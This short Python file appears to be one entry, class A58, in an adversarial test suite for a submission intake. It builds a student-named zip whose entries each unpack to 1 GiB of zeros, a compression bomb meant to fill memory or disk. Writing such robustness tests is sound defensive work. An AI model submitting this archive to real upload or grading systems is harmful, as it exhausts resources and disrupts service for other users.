# /// attack
# class = "A58"
# title = "hands in a zip that unpacks to 2 GiB"
# hope = "unpacking may fill memory or disk"
# where = "intake"
# ///
import zipfile
def hand_in(folder, files, targets):
    with zipfile.ZipFile(folder / f"{targets['student']}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for name in files:
            with archive.open(name, "w", force_zip64=True) as file:
                for _ in range(1024):
                    file.write(bytes(1 << 20))
